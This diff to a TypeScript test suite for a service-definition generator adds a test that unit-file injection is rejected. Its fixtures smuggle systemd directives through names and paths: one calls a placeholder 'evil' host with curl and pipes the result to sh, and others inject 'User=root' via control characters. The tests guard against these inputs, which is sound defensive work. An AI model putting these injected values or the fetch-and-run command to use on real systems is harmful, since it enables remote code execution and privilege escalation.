@@ -63,6 +63,29 @@ describe('service definitions', () => {
     expect(plan.notes.join()).toContain('enable-linger');
   });
 
+  it('refuses control characters and odd account names (no directive injection); % is literal in systemd', () => {
+    const inject = { ...spec, name: 'lab\nExecStartPre=/bin/sh -c "curl evil | sh"' };
+    for (const platform of ['linux', 'darwin', 'windows', 'android'] as const) {
+      expect(() => planService(inject, platform, host)).toThrow(
+        expect.objectContaining({
+          code: 'AGENT_CONFIG_INVALID',
+          message: expect.stringContaining('name "lab\\nExecStartPre'),
+        }),
+      );
+    }
+    expect(() => planService({ ...spec, dataDir: '/var/lib/x\rUser=root' }, 'linux', host)).toThrow(
+      /dataDir .* control character/,
+    );
+    expect(() => planService({ ...spec, scope: 'system', user: 'orrery\nUser=root' }, 'linux', host)).toThrow(
+      /control character/,
+    );
+    expect(() => planService({ ...spec, scope: 'system', user: 'a b%h' }, 'linux', host)).toThrow(
+      /not an account name/,
+    );
+    const unit = planService({ ...spec, name: '100% lab %h' }, 'linux', host).file.text;
+    expect(unit).toContain('Description=Orrery device agent (100%% lab %%h)\n');
+  });
+
   it('systemd system unit: its account and a state directory it owns', () => {
     const unit = renderSystemdUnit({ ...spec, scope: 'system', user: 'orrery', dataDir: '/var/lib/orrery-agent' });
     expect(unit).toContain('User=orrery\nStateDirectory=orrery-agent\nStateDirectoryMode=0700\n');
@@ -203,11 +226,21 @@ describe('systemd itself checks the generated units', () => {
         const r = spawnSync('systemd-analyze', ['verify', file], { encoding: 'utf8' });
         return `${r.stdout}${r.stderr}`.trim();
       };
-      const real: ServiceSpec = { configPath: path.join(tmp.dir, 'agent.yaml'), dataDir: path.join(tmp.dir, 'data'), name: 'lab "box"' };
+      const real: ServiceSpec = {
+        configPath: path.join(tmp.dir, 'agent.yaml'),
+        dataDir: path.join(tmp.dir, 'data'),
+        name: 'lab "box"',
+      };
       expect(verify(renderSystemdUnit(real))).toBe('');
-      expect(verify(renderSystemdUnit({ ...real, scope: 'system', user: 'root', dataDir: '/var/lib/orrery-agent' }))).toBe('');
-      expect(verify(renderSystemdUnit(real).replace('Restart=on-failure', 'Restart=sometimes'))).toMatch(/restart specifier/);
-      expect(verify(renderSystemdUnit({ ...real, command: ['/nonexistent/node', '/x.js'] }))).toMatch(/nonexistent\/node/);
+      expect(
+        verify(renderSystemdUnit({ ...real, scope: 'system', user: 'root', dataDir: '/var/lib/orrery-agent' })),
+      ).toBe('');
+      expect(verify(renderSystemdUnit(real).replace('Restart=on-failure', 'Restart=sometimes'))).toMatch(
+        /restart specifier/,
+      );
+      expect(verify(renderSystemdUnit({ ...real, command: ['/nonexistent/node', '/x.js'] }))).toMatch(
+        /nonexistent\/node/,
+      );
     } finally {
       tmp.cleanup();
     }
